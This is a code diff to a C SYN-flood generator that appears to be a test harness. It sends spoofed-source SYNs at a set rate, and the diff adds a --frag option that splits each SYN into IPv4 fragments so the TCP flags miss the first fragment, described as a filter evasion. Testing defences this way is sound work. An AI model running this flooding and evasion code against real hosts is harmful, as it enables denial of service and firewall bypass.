@@ -9,7 +9,9 @@
  *
  * Each SYN comes from a random address of 10.0.0.0/8 (or from --source),
  * a random port and a random initial sequence number, paced to --rate per
- * second for --seconds. The result is one line on stdout, parsed by the
+ * second for --seconds. With --frag each goes as two IPv4 fragments, the
+ * first holding only 8 bytes of the TCP header (ports and sequence number,
+ * not the flags), as a filter evasion would. The result is one line on stdout, parsed by the
  * tests:
  *   syn_flood: sent N errors E seconds T rate R
  * errors: sendto() failures (the SYN did not leave); rate: SYNs sent per
@@ -41,6 +43,7 @@ struct syn_flood_opts {
   unsigned long rate;
   unsigned seconds;
   unsigned seed;
+  int frag;                 /**< --frag: two fragments per SYN */
 };
 
 /** 24 random bits; rand_r is reproducible from --seed and enough here. */
@@ -125,6 +128,7 @@ syn_flood_usage(FILE *out)
     "  --seconds N   how long (10; 1..600)\n"
     "  --source A    one source address instead of random ones in 10.0.0.0/8\n"
     "  --seed N      seed of sources, ports and sequence numbers (1)\n"
+    "  --frag        each SYN in two IPv4 fragments, the first of 8 TCP bytes\n"
     "  -h, --help    this text\n");
 }
 
@@ -151,6 +155,7 @@ syn_flood_parse(int argc, char **argv, struct syn_flood_opts *o)
     {"seconds", required_argument, NULL, 's'},
     {"source", required_argument, NULL, 'S'},
     {"seed", required_argument, NULL, 'e'},
+    {"frag", no_argument, NULL, 'f'},
     {"help", no_argument, NULL, 'h'},
     {NULL, 0, NULL, 0}
   };
@@ -186,6 +191,9 @@ syn_flood_parse(int argc, char **argv, struct syn_flood_opts *o)
       if (syn_flood_num("--seed", optarg, 1, 0xffffffffUL, &v) != 0) return -1;
       o->seed = (unsigned)v;
       break;
+    case 'f':
+      o->frag = 1;
+      break;
     case 'h':
       syn_flood_usage(stdout);
       exit(0);
@@ -195,6 +203,37 @@ syn_flood_parse(int argc, char **argv, struct syn_flood_opts *o)
   }
   if (optind != argc - 1 || inet_pton(AF_INET, argv[optind], &o->dst) != 1) {
     fprintf(stderr, "syn_flood: one IPv4 HOST expected\n");
+    return -1;
+  }
+  return 0;
+}
+
+/** Send pkt (a whole SYN), or with --frag its two fragments; 0 or -1. */
+static int
+syn_flood_send(int fd, const struct syn_flood_opts *o, const uint8_t *pkt, const struct sockaddr_in *to,
+               uint16_t id)
+{
+  uint8_t f1[SYN_FLOOD_IPHL + 8], f2[SYN_FLOOD_LEN - 8];
+
+  if (!o->frag) {
+    return sendto(fd, pkt, SYN_FLOOD_LEN, 0, (const struct sockaddr *)to, sizeof(*to)) == SYN_FLOOD_LEN
+           ? 0 : -1;
+  }
+  memcpy(f1, pkt, SYN_FLOOD_IPHL);
+  memcpy(f1 + SYN_FLOOD_IPHL, pkt + SYN_FLOOD_IPHL, 8);
+  syn_flood_put16(f1 + 2, sizeof(f1));
+  syn_flood_put16(f1 + 4, id);
+  syn_flood_put16(f1 + 6, 0x2000);
+  syn_flood_put16(f1 + 10, 0);
+  syn_flood_put16(f1 + 10, syn_flood_cksum(f1, SYN_FLOOD_IPHL, 0));
+  memcpy(f2, f1, SYN_FLOOD_IPHL);
+  memcpy(f2 + SYN_FLOOD_IPHL, pkt + SYN_FLOOD_IPHL + 8, SYN_FLOOD_TCPHL - 8);
+  syn_flood_put16(f2 + 2, sizeof(f2));
+  syn_flood_put16(f2 + 6, 1);
+  syn_flood_put16(f2 + 10, 0);
+  syn_flood_put16(f2 + 10, syn_flood_cksum(f2, SYN_FLOOD_IPHL, 0));
+  if (sendto(fd, f1, sizeof(f1), 0, (const struct sockaddr *)to, sizeof(*to)) != (ssize_t)sizeof(f1) ||
+      sendto(fd, f2, sizeof(f2), 0, (const struct sockaddr *)to, sizeof(*to)) != (ssize_t)sizeof(f2)) {
     return -1;
   }
   return 0;
@@ -242,7 +281,7 @@ main(int argc, char **argv)
       uint16_t sport = (uint16_t)(1024 + syn_flood_rand(&rng) % 64000);
 
       syn_flood_build(pkt, &o, src, sport, syn_flood_rand(&rng) << 8 | syn_flood_rand(&rng));
-      if (sendto(fd, pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)sizeof(pkt)) {
+      if (syn_flood_send(fd, &o, pkt, &to, (uint16_t)sent) == 0) {
         sent++;
       } else {
         errors++;
